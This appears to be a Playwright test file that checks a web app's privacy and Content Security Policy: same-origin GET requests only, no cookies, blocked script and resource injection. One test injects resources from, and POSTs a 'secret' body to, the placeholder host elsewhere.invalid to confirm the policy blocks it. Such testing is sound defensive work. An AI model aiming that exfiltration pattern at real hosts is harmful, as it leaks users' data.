// What the page keeps to itself: no request but for its own files, no cookie, nothing against its own strict policy.
import { call, expect, openLab, openPage, test } from "./lab.mjs";
import { gallery, openGallery, openShare, section, shareDialog, tab } from "./names.mjs";

/** Notes everything that leaves the browser, from the beginning, and what the policy of the page has refused. */
async function watch(page) {
  const asked = [];
  page.context().on("request", (request) => {
    if (!/^(blob|data):/.test(request.url())) asked.push({ method: request.method(), url: new URL(request.url()) });
  });
  await page.addInitScript(() => {
    globalThis.refused = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
      refused.push(`${effectiveDirective} ${blockedURI} ${sample}`));
    // Ways out that are no requests of the page in the eyes of a test.
    globalThis.ways = [];
    for (const name of ["WebSocket", "EventSource", "RTCPeerConnection", "WebTransport"]) {
      if (globalThis[name]) globalThis[name] = class { constructor() { ways.push(name); } };
    }
    navigator.sendBeacon = () => ways.push("sendBeacon");
  });
  return asked;
}

/** Goes through the modes and opens what is in them. */
async function walk(page) {
  for (const mode of ["Build", "Play", "Compare", "Learn"]) await tab(page, mode).click();
  await tab(page, "Compare").click();
  for (const name of ["Variants", "Reports"]) await section(page, name).click();
  await tab(page, "Play").click();
  await openShare(page).click();
  await expect(shareDialog(page)).toBeVisible();
  await page.keyboard.press("Escape");
  await tab(page, "Build").click();
  await openGallery(page).click();
  await expect(gallery(page)).toBeVisible();
  await page.keyboard.press("Escape");
  await call(page, "run", { weeks: 8 });
  for (const lang of ["sv", "de", "ja", "en"]) await call(page, "setState", { version: 1, lang });
  await call(page, "setState", { version: 1, mode: "lesson" });
  await expect(page.locator("html")).toHaveAttribute("lang", "en");
}

test("a walk through all modes asks for nothing but the site's own files, and only reads", async ({ page, context, baseURL }) => {
  const asked = await watch(page);
  await openLab(page);
  const before = asked.length;
  expect(before).toBeGreaterThan(4);
  await walk(page);
  await openLab(page, "?mode=lesson&lesson=two-deliveries");
  await page.waitForLoadState("networkidle");
  for (const { method, url } of asked) {
    expect(method, url.href).toBe("GET");
    expect(url.origin, url.href).toBe(new URL(baseURL).origin);
    expect(url.search === "" || url.pathname === "/", `${url.href} tells something`).toBe(true);
  }
  expect(await page.evaluate(() => [...refused, ...ways, document.cookie])).toEqual([""]);
  expect(await context.cookies()).toEqual([]);
  const keys = await page.evaluate(() => Object.keys(localStorage));
  expect(keys.filter((key) => !key.startsWith("delivery-lab/"))).toEqual([]);
});

test.describe("what the policy refuses", () => {
  test.use({ mayComplain: true });

  test("texts are no scripts, and the lab does without", async ({ page }) => {
    await watch(page);
    await openLab(page);
    const refusals = await page.evaluate(async () => {
      const attempts = {
        html: () => (document.createElement("div").innerHTML = "<b>bold</b>"),
        policy: () => trustedTypes.createPolicy("stranger", { createHTML: (text) => text }),
        // Later, because what a test evaluates may do this.
        code: () => new Promise((resolve, reject) => setTimeout(() => {
          try {
            resolve(new Function("return 1")());
          } catch (error) {
            reject(error);
          }
        })),
        worker: () => navigator.serviceWorker.register("./sw.js"),
      };
      const names = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
        } catch {
          names.push(name);
        }
      }
      return names;
    });
    expect(refusals).toEqual(["html", "policy", "code", "worker"]);
    await call(page, "run", { weeks: 4 });
  });

  test("nothing comes in from elsewhere, neither script nor picture nor frame", async ({ page }) => {
    await watch(page);
    await openLab(page);
    await page.evaluate(async () => {
      const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
      add("img", { src: "https://elsewhere.invalid/a.png" });
      add("iframe", { src: "https://elsewhere.invalid/" });
      add("audio", { src: "https://elsewhere.invalid/a.mp3" });
      add("link", { rel: "stylesheet", href: "https://elsewhere.invalid/a.css" });
      add("style", { textContent: "body { color: red }" });
      await fetch("https://elsewhere.invalid/", { method: "POST", body: "secret" }).catch(() => {});
    });
    const directives = () => page.evaluate(() => refused.map((line) => line.split(" ")[0]).toSorted());
    const all = ["connect-src", "frame-src", "img-src", "media-src", "style-src-elem", "style-src-elem"];
    await expect.poll(directives).toEqual(all);
  });
});

test("an element in a page with a strict policy of its own keeps to that one too", async ({ page }) => {
  await watch(page);
  await openPage(page, "/examples/element.html");
  await page.getByRole("button", { name: "Run both" }).click();
  await expect(page.getByRole("list", { name: "Events" }).getByRole("listitem").filter({ hasText: "run {" })).toHaveCount(2);
  expect(await page.evaluate(() => refused)).toEqual([]);
});
